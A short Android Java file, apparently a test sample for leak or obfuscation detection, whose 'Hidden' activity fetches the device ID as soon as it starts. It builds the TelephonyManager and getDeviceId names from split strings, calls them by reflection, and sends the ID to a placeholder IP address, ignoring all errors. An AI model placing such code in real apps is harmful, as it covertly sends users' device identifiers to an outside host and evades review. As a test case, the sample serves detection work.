package spy;

import android.app.Activity;
import android.os.Bundle;
import java.lang.reflect.Method;
import java.net.URL;

/** The phone is asked by names that are put together. */
public class Hidden extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        try {
            Object phone = getSystemService("phone");
            Class<?> type = Class.forName("android.tele" + "phony.TelephonyManager");
            Method method = type.getMethod("getDevice".concat("Id"), new Class[0]);
            String id = (String) method.invoke(phone, new Object[0]);
            new URL("http://203.0.113.7/?i=" + id).openStream(); // leak
        } catch (Exception ignored) {
        }
    }
}
